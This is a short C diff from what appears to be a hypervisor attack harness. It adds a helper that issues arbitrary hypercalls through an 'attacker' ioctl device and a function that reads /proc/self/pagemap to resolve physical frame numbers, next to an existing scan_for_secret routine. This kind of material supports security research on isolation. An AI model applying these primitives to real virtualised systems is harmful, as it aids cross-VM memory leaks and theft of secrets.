@@ -26,9 +26,31 @@ static inline struct attack attack(unsigned long command, uint64_t a, uint64_t b
 	return attack;
 }
 
+static inline int64_t hypercall3(uint64_t number, uint64_t a, uint64_t b, uint64_t c)
+{
+	struct attack call = {.a = number, .b = a, .c = b, .result = (int64_t)c};
+
+	if (ioctl(attacker, ATTACK_HYPERCALL, &call) < 0)
+		exit(1);
+	return call.result;
+}
+
 static inline int64_t hypercall(uint64_t number, uint64_t a, uint64_t b)
 {
-	return attack(ATTACK_HYPERCALL, number, a, b).result;
+	return hypercall3(number, a, b, 0);
+}
+
+/* Where a page of this program's is, which is there. 0: it can't be told. */
+static inline uint64_t frame_of(const void *page)
+{
+	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
+	uint64_t entry = 0;
+
+	if (fd < 0 || pread(fd, &entry, sizeof(entry), (off_t)((uintptr_t)page / 4096 * 8)) !=
+			      sizeof(entry))
+		entry = 0;
+	close(fd);
+	return entry >> 63 ? entry & ((1UL << 55) - 1) : 0;
 }
 
 static inline uint64_t scan_for_secret(void)
